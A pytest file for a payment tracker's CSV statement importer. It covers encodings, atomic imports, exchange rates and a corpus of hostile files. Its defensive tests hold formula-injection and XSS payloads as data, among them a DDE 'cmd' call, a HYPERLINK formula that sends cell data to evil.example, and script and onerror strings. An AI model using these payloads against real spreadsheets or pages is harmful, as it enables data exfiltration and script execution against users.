"""Importing a statement (tracker/io/importer.py): files that are not statements are refused, every usual
encoding reads the same, one bad row writes nothing, rates are asked for; the driver-level insert stores
what SQLAlchemy stores, SQLite's page cache is put back, days and times are stored as a form stores them;
each file of the corpus of bad files (tests/hostile/) is imported as listed or refused with its message.
"""

from __future__ import annotations

import csv
import io
import re
import time
import tracemalloc
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlmodel import Session, func, select

from tests.hostile.cases import CASES, HOSTILE, Case
from tracker.io import importer
from tracker.io.export import payments_csv
from tracker.io.importer import import_rows, may_import
from tracker.io.plan import ImportOptions, plan_import
from tracker.io.tables_csv import export_files
from tracker.ledger.errors import InvalidInput
from tracker.ledger.models import Client, Expense, Payment
from tracker.reports.month import month_summary
from tracker.services.payments import PaymentInput, create_payment

DATA = Path(__file__).parents[1] / "data"
USD = (("USD", "120"),)
pytestmark = pytest.mark.usefixtures("data_dir")  # tests/conftest.py


def cache_size(session: Session) -> int:
    """Return the connection's SQLite page cache size (PRAGMA cache_size)."""
    return int(session.connection().execute(text("PRAGMA cache_size")).scalar_one())


def test_the_page_cache_is_put_back_after_an_import(session: Session,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    if session.get_bind().dialect.name != "sqlite":
        pytest.skip("a SQLite setting")
    before = cache_size(session)
    seen = []
    real = importer._insert

    def spy(*args: object) -> None:
        seen.append(cache_size(session))
        real(*args)  # type: ignore[arg-type]
    monkeypatch.setattr(importer, "_insert", spy)
    plan = plan_import(session, (DATA / "upwork_new.csv").read_bytes(), ImportOptions(rates=USD))
    import_rows(session=session, plan=plan)
    assert seen and all(size == -importer.ROOMY_CACHE_KIB for size in seen)
    assert cache_size(session) == before

    def broken(*_args: object) -> None:
        raise InvalidInput("The disk is full.")
    monkeypatch.setattr(importer, "_insert", broken)
    again = plan_import(session, (DATA / "upwork_old.csv").read_bytes(), ImportOptions(rates=USD))
    stored = session.exec(select(func.count()).select_from(Payment)).one()
    with pytest.raises(InvalidInput, match="disk is full"):
        import_rows(session=session, plan=again)
    assert cache_size(session) == before
    assert session.exec(select(func.count()).select_from(Payment)).one() == stored


def test_imported_days_and_times_are_stored_as_a_form_stores_them(session: Session) -> None:
    if session.get_bind().dialect.name != "sqlite":
        pytest.skip("SQLite keeps days and times as text")
    import_rows(session=session, plan=plan_import(session, (DATA / "upwork_new.csv").read_bytes(),
                                                  ImportOptions(rates=USD)))
    by_form = create_payment(session=session, data=PaymentInput(paid_on="2026-09-03", gross="5", rate="120"))
    rows = session.connection().execute(text("SELECT id, paid_on, created_at FROM payment")).all()
    form = next(r for r in rows if r.id == by_form.id)
    for row in rows:
        assert len(row.paid_on) == len(form.paid_on) == 10 and row.paid_on[4] == "-"
        assert len(row.created_at) == len(form.created_at)  # the same text form, day and time


# Importing any statement: files that are not statements, encodings, atomic imports, rates -------------

UPWORK = ("Date,Ref ID,Type,Description,Agency,Freelancer,Team,Account Name,PO,Amount,"
          "Amount in local currency,Currency,Balance")


def counted(session: Session) -> tuple[int, int, int]:
    """Return how many payments, expenses and clients are stored."""
    return tuple(session.exec(select(func.count()).select_from(m)).one()  # type: ignore[return-value]
                 for m in (Payment, Expense, Client))


@pytest.mark.parametrize(("data", "message"), [
    (b"", "The file is empty"),
    (b"\xef\xbb\xbf\n\n", "The file is empty"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >>\n", "does not look like a CSV file"),
    (b"PK\x03\x04\x14\x00\x00\x00\x08\x00binary", "not a CSV text file"),
    (b"Name,Amount\nA,1,2,3\n", "not valid CSV near line 2"),
    (b"Name,Amount\nA,1\n", "do not match a statement we know"),
])
def test_files_that_are_not_statements_are_refused(session: Session, data: bytes, message: str) -> None:
    with pytest.raises(InvalidInput, match=message):
        plan_import(session, data, ImportOptions())
    assert counted(session) == (0, 0, 0)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_every_usual_encoding_reads_the_same(session: Session, encoding: str) -> None:
    text = (DATA / "upwork_old.csv").read_text(encoding="utf-8").replace("Acme Ltd", "Acmé Ltd")
    plan = plan_import(session, text.encode(encoding), ImportOptions(rates=USD))
    assert (plan.added_rows, plan.refused) == (14, [])
    assert "Acmé Ltd" in {r.client for r in plan.to_add}


def test_the_preview_lists_fee_rows_with_their_payment(session: Session) -> None:
    from tracker.io.preview import counts, refused_frame, rows_frame
    plan = plan_import(session, (DATA / "upwork_old.csv").read_bytes(), ImportOptions(rates=USD))
    frame = rows_frame(plan.to_add)
    hourly = frame[frame["reference"] == "701123340"].iloc[0]
    assert (hourly["row"], hourly["fee_rows"]) == (11, "10")
    assert (hourly["amount"], hourly["fee"]) == ("1200.00", "120.00")
    assert counts(plan) == {"add": 14, "duplicates": 0, "refused": 0, "transfers": 1}
    assert refused_frame(plan.refused).empty


def test_quoted_fields_and_thousands_separators(session: Session) -> None:
    row = '"Aug 3, 2026",1,Hourly,"Invoice, week 31",,R,"Acme, Inc.",R,,"1,200.00",,USD,'
    data = f"{UPWORK}\n{row}\n".encode()
    plan = plan_import(session, data, ImportOptions(rates=USD))
    [row] = plan.to_add
    assert (row.client, row.amount, row.note) == ("Acme, Inc.", 120000, "Invoice, week 31")


def test_a_missing_column_is_named(session: Session) -> None:
    with pytest.raises(InvalidInput, match="no column “Amount \\$” or “Amount”, which"):
        plan_import(session, b"Date,Ref ID,Type,Team,Freelancer\nAug 3 2026,1,Hourly,A,R\n",
                    ImportOptions(format="upwork"))


def bad_file() -> bytes:
    """Return an Upwork file whose third data row has an unreadable amount."""
    return (f'{UPWORK}\n"Aug 3, 2026",1,Hourly,x,,R,Acme,R,,100.00,,USD,\n'
            f'"Aug 3, 2026",2,Service Fee,Service Fee for Hourly - Ref ID 1,,R,Acme,R,,-10.00,,USD,\n'
            f'"Aug 4, 2026",3,Hourly,x,,R,Acme,R,,12O.00,,USD,\n'
            f'"Aug 4, 2026",4,Service Fee,Service Fee for Hourly - Ref ID 3,,R,Acme,R,,-12.00,,USD,\n'
            ).encode()


def test_one_bad_row_writes_nothing_and_names_the_row(session: Session) -> None:
    plan = plan_import(session, bad_file(), ImportOptions(rates=USD))
    assert [(r.number, r.text()) for r in plan.refused] == [
        (4, "“12O.00” is not a number. Type digits, like 1,250.50."),
        (5, "This fee belongs to the payment in row 4, which was refused.")]
    with pytest.raises(InvalidInput, match="Nothing was imported, because 2 rows were refused. Row 4:"):
        import_rows(session=session, plan=plan)
    assert counted(session) == (0, 0, 0)


def test_a_payment_refused_by_the_form_rules_takes_its_fee_rows_along(session: Session) -> None:
    data = (f'{UPWORK}\n"Aug 3, 2026",1,Hourly,x,,R,Acme,R,,10.00,,USD,\n'
            f'"Aug 3, 2026",2,Service Fee,Service Fee for Hourly - Ref ID 1,,R,Acme,R,,-12.00,,USD,\n'
            ).encode()
    plan = plan_import(session, data, ImportOptions(rates=USD))
    assert [(r.number, r.text()) for r in plan.refused] == [
        (2, "The fees are more than the amount paid. Check the numbers."),
        (3, "This fee belongs to the payment in row 2, which was refused.")]


def test_skip_invalid_imports_the_good_rows_only(session: Session) -> None:
    plan = plan_import(session, bad_file(), ImportOptions(rates=USD))
    result = import_rows(session=session, plan=plan, skip_invalid=True)
    assert result.summary() == "imported 2, duplicates 0, refused 2"
    assert counted(session) == (1, 0, 1)
    assert month_summary(session, "2026-08").net_minor == 1080000


def test_without_a_rate_the_import_stops_and_names_the_currency(session: Session) -> None:
    plan = plan_import(session, (DATA / "upwork_old.csv").read_bytes(), ImportOptions())
    assert (plan.missing_rates, plan.values) == (["USD"], [])
    with pytest.raises(InvalidInput, match="Rows in USD need an exchange rate into BDT"):
        import_rows(session=session, plan=plan)
    assert counted(session) == (0, 0, 0)


def test_a_bad_rate_is_refused(session: Session) -> None:
    with pytest.raises(InvalidInput, match="is not a number"):
        plan_import(session, (DATA / "upwork_old.csv").read_bytes(), ImportOptions(rates=(("USD", "abc"),)))


def test_importing_twice_from_one_plan_adds_nothing_the_second_time(session: Session) -> None:
    plan = plan_import(session, (DATA / "upwork_new.csv").read_bytes(), ImportOptions(rates=USD))
    import_rows(session=session, plan=plan)
    assert import_rows(session=session, plan=plan).summary() == "imported 0, duplicates 6, refused 0"


def test_existing_clients_are_found_ignoring_case(session: Session) -> None:
    from tracker.services.clients import ClientInput, create_client
    create_client(session=session, data=ClientInput(name="ACME LTD", platform="Upwork"))
    import_rows(session=session, plan=plan_import(session, (DATA / "upwork_new.csv").read_bytes(),
                                                  ImportOptions(rates=USD)))
    assert sorted(c.name for c in session.exec(select(Client))) == ["ACME LTD", "নদী ডিজাইন"]


# The corpus of bad files (tests/hostile/): each one imported as listed in tests/hostile/cases.py or
# refused with its message; a refusal writes nothing. Text that spreadsheets would run as a formula is
# stored as typed and neutralised on export.

USD_OPTIONS = ImportOptions(rates=(("USD", "120"),))


def test_the_table_lists_every_file_of_the_corpus() -> None:
    assert sorted(c.file for c in CASES) == sorted(p.name for p in HOSTILE.glob("*.csv"))
    assert all(p.stat().st_size < 2000 for p in HOSTILE.glob("*.csv"))  # the big one is made by tests


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.file)
def test_each_file_is_imported_or_refused_as_listed(session: Session, case: Case) -> None:
    if case.refused:
        with pytest.raises(InvalidInput) as refusal:
            plan_import(session, case.data, USD_OPTIONS)
        assert case.refused in str(refusal.value)
        assert counted(session) == (0, 0, 0)
        return
    plan = plan_import(session, case.data, USD_OPTIONS)
    assert {r.number: r.text() for r in plan.refused} == case.rows
    if case.rows:
        with pytest.raises(InvalidInput, match=f"Nothing was imported, because {len(case.rows)} rows"):
            import_rows(session=session, plan=plan)
        assert counted(session) == (0, 0, 0)
    result = import_rows(session=session, plan=plan, skip_invalid=bool(case.rows))
    assert (result.imported, result.duplicates, result.refused) == (case.imported, case.duplicates,
                                                                    len(case.rows))


def import_file(session: Session, name: str) -> None:
    """Import a corpus file completely."""
    import_rows(session=session, plan=plan_import(session, (HOSTILE / name).read_bytes(), USD_OPTIONS))


@pytest.mark.parametrize(("name", "clients", "notes"), [
    ("windows_1252.csv", ["Café Münster"], ["Café menu – week 32"]),
    ("utf16_without_mark.csv", ["নদী ডিজাইন"], ["Logo for নদী"]),
    ("bom_crlf_bengali.csv", ["নদী ডিজাইন"], ["Logo for নদী"]),
    ("formula_cells.csv", ["=cmd|' /C calc'!A0", "+Acme Ltd", "-Sign Co"],
     ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]),
    ("html_and_script.csv", ["<script>alert(1)</script>", "[x](javascript:alert(1))"],
     ['<img src=x onerror="alert(1)">', "![track](http://evil.example/pixel.png) **bold**"]),
])
def test_text_is_stored_exactly_as_the_file_has_it(session: Session, name: str, clients: list[str],
                                                  notes: list[str]) -> None:
    import_file(session, name)
    assert sorted(session.exec(select(Client.name)).all()) == sorted(clients)
    assert session.exec(select(Payment.note).order_by(Payment.id)).all() == notes


def test_exported_formulas_cannot_run_and_read_back_as_typed(session: Session, tmp_path: Path) -> None:
    import_file(session, "formula_cells.csv")
    rows = list(csv.DictReader(io.StringIO(payments_csv(session).decode("utf-8-sig"))))
    for row in rows:
        for column in ("client", "note"):
            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
    assert [r["client"] for r in rows] == ["'=cmd|' /C calc'!A0", "'+Acme Ltd", "'-Sign Co"]
    from tracker.db.engine import open_session

    with open_session(f"sqlite:///{tmp_path / 'again.db'}") as again:
        plan = plan_import(again, payments_csv(session), ImportOptions())
        import_rows(session=again, plan=plan)
        names = sorted(session.exec(select(Client.name)).all())
        assert sorted(again.exec(select(Client.name)).all()) == names
        assert again.exec(select(Payment.note)).all() == session.exec(select(Payment.note)).all()


def test_every_exported_file_neutralises_formulas(session: Session) -> None:
    import_file(session, "formula_cells.csv")
    import_file(session, "html_and_script.csv")
    for name, data in export_files(session).items():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            risky = [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
                     or (cell.startswith("-") and not re.fullmatch(r"-[\d.]+", cell))]
            assert not risky, (name, risky)


def test_a_50_mb_upload_is_refused_before_it_is_parsed(session: Session, fifty_mb: Path) -> None:
    data = fifty_mb.read_bytes()
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match="This file is 51 MB; files up to 25 MB can be imported"):
        plan_import(session, data, USD_OPTIONS)
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert seconds < 1 and peak < 1024 * 1024
    assert counted(session) == (0, 0, 0)


def test_an_import_may_run_when_ready_with_rows_and_no_refused_row_left_in(session: Session) -> None:
    plan = plan_import(session, bad_file(), ImportOptions(rates=USD))
    assert plan.refused and plan.to_add and plan.ready
    assert not may_import(plan=plan, skip_refused=False), "refused rows in: not until they are left out"
    assert may_import(plan=plan, skip_refused=True)
    assert not may_import(plan=replace(plan, to_add=[]), skip_refused=True), "nothing to add"
    assert not may_import(plan=replace(plan, missing_rates=["EUR"]), skip_refused=True), "a rate missing"
    assert may_import(plan=replace(plan, refused=[]), skip_refused=False)
